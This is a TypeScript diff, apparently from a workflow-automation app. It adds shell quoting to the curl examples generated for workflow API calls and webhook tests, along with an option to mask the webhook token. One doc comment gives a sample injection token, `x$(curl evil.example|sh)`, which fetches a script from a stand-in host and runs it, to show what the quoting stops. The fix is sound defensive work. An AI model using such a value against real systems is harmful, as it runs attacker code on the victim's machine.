@@ -44,22 +44,46 @@ export function streamingBlocks(state: Pick<WorkflowState, 'blocks'>): Array<{ i
     .map((b) => ({ id: b.id, name: b.name }));
 }
 
+/** A value as one POSIX shell word: single-quoted, each `'` written `'\''` (nothing inside is expanded: `$`, backticks, `"`). */
+export function shellQuote(value: string): string {
+  return `'${value.replaceAll("'", "'\\''")}'`;
+}
+
 /**
  * The curl call that runs the deployed workflow with its API key; with `streamed` block names, a
  * streamed run (`stream: true`) whose `selectedOutputs` are those blocks' content, as references write them.
+ * Every value is single-quoted for the shell (a name or input with `'`, `$` or backticks stays text).
  */
 export function curlExample(origin: string, workflowId: string, apiKey: string, input: Record<string, unknown> = {}, streamed: readonly string[] = []): string {
   const body = streamed.length > 0 ? { ...input, stream: true, selectedOutputs: streamed.map((name) => `${referenceName(name)}.content`) } : input;
-  return [`curl -X POST ${origin}/api/workflows/${workflowId}/execute \\`, `  -H "Content-Type: application/json" \\`, `  -H "X-API-Key: ${apiKey}" \\`, ...(streamed.length > 0 ? ['  -N \\'] : []), `  -d '${JSON.stringify(body)}'`].join('\n');
+  return [
+    `curl -X POST ${shellQuote(`${origin}/api/workflows/${workflowId}/execute`)} \\`,
+    `  -H 'Content-Type: application/json' \\`,
+    `  -H ${shellQuote(`X-API-Key: ${apiKey}`)} \\`,
+    ...(streamed.length > 0 ? ['  -N \\'] : []),
+    `  -d ${shellQuote(JSON.stringify(body))}`,
+  ].join('\n');
 }
+
+/** What the webhook curl example shows in place of the token (the copied command has the token itself). */
+export const MASKED_TOKEN = '••••••••';
 
 /**
  * A test call of a generic webhook, with its token as the bearer when it has one; other providers
  * sign their deliveries (GitHub, Slack, Stripe, …), which a hand-written call cannot, so they get none.
+ * Every value is single-quoted for the shell, so a token such as `x$(curl evil.example|sh)` is sent as
+ * text and never run. `masked`: the token written as {@link MASKED_TOKEN}, for showing (the dialog masks
+ * the secret); the copied command is the unmasked one.
  */
-export function webhookCurlExample(hook: { url: string; secret: string; provider: string }): string | undefined {
+export function webhookCurlExample(hook: { url: string; secret: string; provider: string }, masked = false): string | undefined {
   if (hook.provider !== 'generic') return undefined;
-  return [`curl -X POST ${hook.url} \\`, `  -H "Content-Type: application/json" \\`, ...(hook.secret ? [`  -H "Authorization: Bearer ${hook.secret}" \\`] : []), `  -d '{"event":"test"}'`].join('\n');
+  const token = masked ? MASKED_TOKEN : hook.secret;
+  return [
+    `curl -X POST ${shellQuote(hook.url)} \\`,
+    `  -H 'Content-Type: application/json' \\`,
+    ...(hook.secret ? [`  -H ${shellQuote(`Authorization: Bearer ${token}`)} \\`] : []),
+    `  -d ${shellQuote('{"event":"test"}')}`,
+  ].join('\n');
 }
 
 /**
